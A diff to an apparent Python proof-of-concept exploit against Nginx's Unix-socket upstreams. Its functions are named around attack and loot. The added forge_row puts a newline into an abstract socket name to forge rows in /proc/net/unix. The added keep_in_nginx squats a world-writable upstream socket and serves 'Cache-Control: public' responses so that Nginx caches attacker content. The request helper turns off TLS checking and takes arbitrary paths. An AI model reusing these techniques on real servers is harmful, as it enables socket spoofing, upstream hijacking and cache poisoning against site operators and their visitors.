@@ -74,6 +74,14 @@ def listen_abstract() -> None:
         time.sleep(60)
 
 
+def forge_row(path: str) -> None:
+    """A socket whose name goes on with a row of /proc/net/unix: somebody is connected to `path`."""
+    with socket.socket(socket.AF_UNIX) as door:
+        door.bind(f"\0attack\n1: 2 3 4 5 03 7 {path}")
+        door.listen()
+        time.sleep(20)
+
+
 def listen(path: str) -> None:
     """Where everybody may come in."""
     with socket.socket(socket.AF_UNIX) as door:
@@ -150,7 +158,7 @@ def door_of_nginx(path: str) -> None:
         answer(door, "", LOOT)
 
 
-def visit() -> str:
+def visit(path: str = "/attack") -> str:
     """What a visitor of the site gets."""
     trust = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
@@ -159,7 +167,7 @@ def visit() -> str:
         lambda *_: socket.create_connection(("127.0.0.1", 443), 3)
     )
     try:
-        connection.request("GET", "/attack")
+        connection.request("GET", path)
         return connection.getresponse().read().decode(errors="replace")
     except (OSError, http.client.HTTPException) as error:
         return repr(error)
@@ -190,6 +198,18 @@ def order_nginx() -> None:
         threading.Thread(target=answer, args=(door, head, "his own"), daemon=True).start()
         for _ in range(TIMES):
             print(visit())
+
+
+def keep_in_nginx(path: str) -> None:
+    """Answer for `path` with what everybody may keep, until Nginx has kept it."""
+    with instead() as place, socket.socket(socket.AF_UNIX) as door:
+        door.bind(str(place))
+        place.chmod(0o777)
+        door.listen()
+        head = "Cache-Control: public, max-age=60\r\nContent-Type: text/plain\r\n"
+        threading.Thread(target=answer, args=(door, head, "attack_kept 1\n"), daemon=True).start()
+        for _ in range(TIMES):
+            print(visit(path))
 
 
 def lead_nginx(path: str) -> None:
